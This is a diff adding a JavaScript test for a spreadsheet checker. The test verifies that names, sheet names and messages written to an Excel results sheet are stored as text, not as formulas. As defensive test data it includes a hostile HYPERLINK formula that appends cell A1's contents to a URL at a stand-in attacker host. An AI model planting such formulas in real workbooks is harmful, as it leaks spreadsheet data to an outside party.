@@ -58,3 +58,23 @@ describe('results sheet', () => {
     RESULT_WIDTHS.forEach((w, i) => expect(ref.getColumn(i + 1).width).toBe(w));
   });
 });
+
+describe('results sheet in Excel: text from the workbook is never taken for a formula (issue 10)', () => {
+  it('every cell holding a name, sheet or message is formatted as text before it is written; the links are ours', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
+    const sim = new ExcelSim({ api: 17 });
+    sim.wb.addSheet('=A1', [['x']]);
+    await markFindings(sim.context(), [finding('=A1', 'A1', 'error', 'id.checksum', `身份证号“${hostile}”校验位错误`, hostile)], { lang: 'zh', resultsSheet: true, programName: 'x' });
+    const ours = sim.wb.sheet('校验结果');
+    let hostileCells = 0;
+    for (let c = 0; c < 6; c++) {
+      const cell = ours.get(2, c)!;
+      const text = String(cell.formula ?? cell.value ?? '');
+      if (cell.formula && /^=HYPERLINK\("#/.test(cell.formula)) continue; // the link to the cell: ours
+      // Excel keeps what is written into a text-formatted ("@") cell as text, "=" or not.
+      expect([c, cell.numberFormat]).toEqual([c, '@']);
+      if (text.includes('evil.example') || text === '=A1') hostileCells++;
+    }
+    expect(hostileCells).toBeGreaterThanOrEqual(2);
+  });
+});
